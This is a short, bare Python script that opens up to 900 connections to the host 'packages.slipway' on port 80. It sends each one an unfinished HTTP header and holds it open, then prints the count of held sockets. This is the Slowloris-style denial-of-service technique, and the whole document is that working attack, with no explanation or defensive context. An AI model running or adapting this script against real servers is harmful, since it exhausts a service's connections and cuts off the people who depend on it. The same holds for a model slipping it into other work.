import socket

held = []
for _ in range(900):
    try:
        client = socket.create_connection(("packages.slipway", 80), 0.5)
        client.sendall(b"GET / HTTP/1.1\r\nX: ")
        held.append(client)
    except OSError:
        break
print("opened", "so many:", len(held))
